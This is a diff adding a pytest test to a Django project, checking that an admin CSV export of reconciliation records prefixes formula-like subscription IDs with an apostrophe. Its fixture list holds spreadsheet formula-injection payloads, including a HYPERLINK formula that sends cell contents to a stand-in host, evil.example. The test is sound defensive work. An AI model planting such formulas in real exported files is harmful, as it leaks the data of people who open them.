@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import date
+from decimal import Decimal
 
 import pytest
 from django.urls import reverse
@@ -153,3 +155,21 @@ def test_admin_import_with_the_broker_down_fails_the_run_clearly(admin_client, s
     run = ImportRun.objects.get()
     assert run.status == "failed" and "broker" in run.fatal_error
     assert 'data-banner="red"' in admin_client.get(response["Location"]).content.decode()
+
+
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
+               "\tcmd", "\r=1+1"]
+
+
+def test_csv_export_neutralises_formula_prefixes(admin_client, service):
+    for n, external_id in enumerate(HOSTILE_IDS):
+        Reconciliation.objects.create(
+            service=service, external_subscription_id=external_id, period_start=date(2026, 10, 1),
+            period_end=date(2026, 11, 1), fusion_amount=Decimal("7.5"), source_amount=Decimal("12.5"),
+            delta=Decimal("-5.000000"), status="mismatch")
+    export = admin_client.get(reverse("admin:migration_reconciliation_export"))
+    rows = list(csv.DictReader(io.StringIO(export.content.decode(), newline="")))
+    assert sorted(r["external_subscription_id"] for r in rows) == sorted("'" + i for i in HOSTILE_IDS)
+    # numbers we computed stay numbers, negative ones included
+    assert {r["delta"] for r in rows} == {"-5.000000"}
+    assert {r["service"] for r in rows} == {service.code}
